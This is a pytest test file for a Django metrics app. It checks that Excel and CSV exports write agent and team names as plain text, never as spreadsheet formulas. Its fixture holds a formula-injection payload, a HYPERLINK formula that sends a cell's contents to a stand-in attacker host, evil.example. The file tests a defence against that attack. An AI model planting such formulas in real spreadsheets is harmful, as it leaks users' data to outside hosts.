"""Every Excel and CSV export writes user text as text (issue 14, item 9): agent and team
names such as `=HYPERLINK(…)` or `=1+1` come back as the same text, never a formula."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from conftest import native_conversation
from kefu.accounts.access import ALL
from kefu.accounts.models import Team
from kefu.interactions.models import ImportJob
from kefu.metrics import exports
from kefu.metrics.selectors import Scope, figures

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
TEAM = "=1+1"


@pytest.fixture
def hostile(personas, import_records):
    import_records(
        {"type": "agent", "id": "A0666", "name": LINK, "team": TEAM, "tier": "regular"},
        native_conversation(id="C-X-1", agent="A0666"),
    )
    return personas


def no_formulas(book) -> list[str]:
    """Every text cell of the workbook; fails on any formula cell."""
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_it_writes_team_names_as_text_in_the_figures_workbook(hostile, tmp_path):
    path = tmp_path / "by-team.xlsx"
    call_command("metrics", "--from", "2024-05-01", "--to", "2024-05-31", "--by", "team",
                 "--format", "xlsx", "--output", str(path))  # fmt: skip
    assert TEAM in no_formulas(load_workbook(path))


def test_it_writes_agent_and_team_names_as_text_in_the_review(hostile):
    stream = io.BytesIO()
    exports.write_review_workbook(Scope(date(2024, 5, 1), date(2024, 5, 31), visible=ALL), stream)
    texts = no_formulas(load_workbook(io.BytesIO(stream.getvalue())))
    assert LINK in texts and TEAM in texts


def test_it_writes_names_as_text_in_the_review_download(hostile):
    client = Client()
    client.force_login(hostile.mia)
    response = client.get(reverse("metrics:review_export"), {"month": "2024-05"})
    assert response.status_code == 200
    assert LINK in no_formulas(load_workbook(io.BytesIO(response.content)))


def test_it_keeps_grouped_figures_with_a_formula_like_team(hostile):
    result = figures(Scope(date(2024, 5, 1), date(2024, 5, 31), visible=ALL), "team")
    stream = io.BytesIO()
    exports.write_figures_workbook(result, "team", stream)
    assert TEAM in no_formulas(load_workbook(io.BytesIO(stream.getvalue())))
    assert Team.objects.filter(name=TEAM).exists()


def test_it_neutralises_formulas_in_the_import_error_csv(hostile):
    job = ImportJob.objects.create(
        created_by=hostile.mia,
        errors=[{"line": 1, "id": "=1+1", "field": "@x", "reason": "+bad"}],
    )
    client = Client()
    client.force_login(hostile.mia)
    body = b"".join(client.get(f"/imports/{job.pk}/errors.csv").streaming_content)
    assert "'=1+1,'@x,'+bad" in body.decode("utf-8-sig")
